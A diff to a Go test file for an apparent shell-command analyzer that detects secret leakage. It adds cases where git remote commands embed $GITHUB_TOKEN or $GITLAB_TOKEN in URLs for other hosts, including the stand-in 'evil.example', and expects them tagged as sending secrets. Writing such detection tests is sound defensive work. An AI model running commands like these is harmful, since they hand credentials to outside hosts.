@@ -70,6 +70,9 @@ func TestSecretEnvFlow(t *testing.T) {
 		{`env | grep -i proxy`, []string{"!tag secret.env.print"}},
 		{`grep -i token config.yaml`, []string{"!tag secret.env.print"}},
 		{`echo $HOME`, []string{"!tag secret.env.print"}},
+		{`git remote add mirror "https://x:$GITHUB_TOKEN@git.example.net/r.git"`, []string{"tag secret.env.send", "attr secret-host=other"}},
+		{`git remote set-url origin "https://$GH_TOKEN@github.com/o/r.git"`, []string{"!tag secret.env.send"}},
+		{`git config remote.b.url "https://u:$GITLAB_TOKEN@evil.example/r"`, []string{"tag secret.env.send"}},
 	} {
 		a, err := Analyze(c.in, testOpts)
 		if err != nil {
